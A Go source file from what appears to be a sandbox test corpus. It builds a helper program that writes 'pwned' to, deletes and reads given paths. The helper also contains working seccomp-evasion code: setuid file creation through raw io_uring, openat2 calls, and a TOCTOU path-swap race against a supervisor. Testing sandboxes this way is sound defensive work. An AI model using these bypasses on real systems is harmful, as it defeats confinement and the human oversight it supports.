package attackcorpus

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
)

// BuildHelper builds, with the go command gobin, in dir (which it makes
// readable to everyone), the program a case names @HELPER@: a compiled
// program, not an interpreter a command parser knows, that writes,
// appends to, deletes and reads the paths it is given (`@HELPER@
// write|append|remove|read PATH`), or creates a file through io_uring
// (`uring-create PATH`), through openat2 (`openat2 PATH`), or with a
// thread that swaps the path in memory while another creates it (`race
// PATH DECOY`: the judged path is DECOY, the one the kernel would read
// again PATH). It returns the program's path.
func BuildHelper(gobin, dir string) (string, error) {
	if err := os.WriteFile(filepath.Join(dir, "main.go"), []byte(helperSource), 0o644); err != nil {
		return "", err
	}
	if err := os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module helper\n\ngo 1.21\n"), 0o644); err != nil {
		return "", err
	}
	out := filepath.Join(dir, "helper")
	cmd := exec.Command(gobin, "build", "-o", out, ".")
	cmd.Dir = dir
	if b, err := cmd.CombinedOutput(); err != nil {
		return "", fmt.Errorf("building the helper: %v\n%s", err, b)
	}
	if err := os.Chmod(dir, 0o755); err != nil {
		return "", err
	}
	return out, nil
}

// helperSource is the helper's program.
const helperSource = `package main

import (
	"fmt"
	"os"
	"runtime"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"
)

func main() {
	switch os.Args[1] {
	case "uring-create":
		fmt.Println("uring-create:", uringCreate(os.Args[2], 0o4755))
	case "write":
		fmt.Println(os.WriteFile(os.Args[2], []byte("pwned"), 0o644))
	case "append":
		f, err := os.OpenFile(os.Args[2], os.O_APPEND|os.O_WRONLY, 0)
		if err == nil {
			_, err = f.WriteString("pwned")
			f.Close()
		}
		fmt.Println(err)
	case "remove":
		fmt.Println(os.Remove(os.Args[2]))
	case "read":
		b, err := os.ReadFile(os.Args[2])
		fmt.Println(string(b), err)
	case "openat2":
		fmt.Println("openat2:", openat2Create(os.Args[2]))
	case "race":
		fmt.Println("race:", race(os.Args[2], os.Args[3]))
	}
}

// openat2Create creates path through openat2 (whose flags are in memory,
// out of a seccomp filter's reach).
func openat2Create(path string) string {
	name := append([]byte(path), 0)
	how := [3]uint64{syscall.O_CREAT | syscall.O_WRONLY | syscall.O_CLOEXEC, 0o644, 0} // struct open_how
	fd, _, errno := syscall.Syscall6(437, uintptr(0xffffffffffffff9c), uintptr(unsafe.Pointer(&name[0])),
		uintptr(unsafe.Pointer(&how[0])), unsafe.Sizeof(how), 0, 0)
	if errno != 0 {
		return errno.Error()
	}
	syscall.Write(int(fd), []byte("pwned"))
	syscall.Close(int(fd))
	return "made"
}

// race creates, again and again for up to two seconds, the path in a
// buffer that another thread keeps swapping between decoy and path, both
// of one length: a supervisor that judged the buffer and then let the
// kernel read it again would, now and then, have judged decoy and made
// path. It says whether path was made.
func race(path, decoy string) string {
	if len(path) != len(decoy) {
		return "path and decoy differ in length"
	}
	buf := make([]byte, len(path)+1)
	copy(buf, decoy)
	var stop atomic.Bool
	go func() {
		runtime.LockOSThread()
		for !stop.Load() {
			for i := range path {
				*(*byte)(unsafe.Pointer(&buf[i])) = path[i]
			}
			for i := range decoy {
				*(*byte)(unsafe.Pointer(&buf[i])) = decoy[i]
			}
		}
	}()
	end := time.Now().Add(2 * time.Second)
	tries := 0
	for ; time.Now().Before(end); tries++ {
		fd, _, errno := syscall.Syscall6(syscall.SYS_OPENAT, uintptr(0xffffffffffffff9c), uintptr(unsafe.Pointer(&buf[0])),
			syscall.O_CREAT|syscall.O_WRONLY|syscall.O_CLOEXEC, 0o644, 0, 0)
		if errno == 0 {
			syscall.Close(int(fd))
		}
		if _, err := os.Lstat(path); err == nil {
			stop.Store(true)
			return fmt.Sprintf("made %s after %d tries", path, tries)
		}
		os.Remove(decoy)
	}
	stop.Store(true)
	return fmt.Sprintf("%s never made in %d tries", path, tries)
}

// uringCreate creates path with mode through io_uring's openat, which no
// seccomp filter sees the arguments of: the result (a descriptor, or
// -errno), or why io_uring could not be set up.
func uringCreate(path string, mode uint32) string {
	var p [120]byte // struct io_uring_params
	fd, _, errno := syscall.Syscall(425, 1, uintptr(unsafe.Pointer(&p[0])), 0)
	if errno != 0 {
		return "io_uring_setup: " + errno.Error()
	}
	u32 := func(off int) uint32 { return *(*uint32)(unsafe.Pointer(&p[off])) }
	sqEntries, features := u32(0), u32(20)
	sqOff, cqOff := 40, 80 // sq_off, cq_off
	sqSize := int(u32(sqOff+24)) + int(sqEntries)*4
	cqSize := int(u32(cqOff+20)) + int(u32(4))*16
	if features&1 != 0 && cqSize > sqSize { // IORING_FEAT_SINGLE_MMAP
		sqSize = cqSize
	}
	sq, err := syscall.Mmap(int(fd), 0, sqSize, syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_SHARED|syscall.MAP_POPULATE)
	if err != nil {
		return "mmap sq: " + err.Error()
	}
	cq := sq
	if features&1 == 0 {
		if cq, err = syscall.Mmap(int(fd), 0x8000000, cqSize, syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_SHARED|syscall.MAP_POPULATE); err != nil {
			return "mmap cq: " + err.Error()
		}
	}
	sqes, err := syscall.Mmap(int(fd), 0x10000000, int(sqEntries)*64, syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_SHARED|syscall.MAP_POPULATE)
	if err != nil {
		return "mmap sqes: " + err.Error()
	}
	name := append([]byte(path), 0)
	sqe := sqes[:64]
	sqe[0] = 18                                                 // IORING_OP_OPENAT
	*(*int32)(unsafe.Pointer(&sqe[4])) = -100                   // AT_FDCWD
	*(*uint64)(unsafe.Pointer(&sqe[16])) = uint64(uintptr(unsafe.Pointer(&name[0])))
	*(*uint32)(unsafe.Pointer(&sqe[24])) = mode                 // len: the mode
	*(*uint32)(unsafe.Pointer(&sqe[28])) = syscall.O_CREAT | syscall.O_WRONLY
	at := func(b []byte, off uint32) *uint32 { return (*uint32)(unsafe.Pointer(&b[off])) }
	tail := at(sq, u32(sqOff+4))
	mask := *at(sq, u32(sqOff+8))
	*at(sq, u32(sqOff+24)+(*tail&mask)*4) = 0
	*tail++
	if _, _, errno := syscall.Syscall6(426, fd, 1, 1, 1, 0, 0); errno != 0 {
		return "io_uring_enter: " + errno.Error()
	}
	res := *(*int32)(unsafe.Pointer(&cq[u32(cqOff+20)+8]))
	return fmt.Sprint(res)
}
`
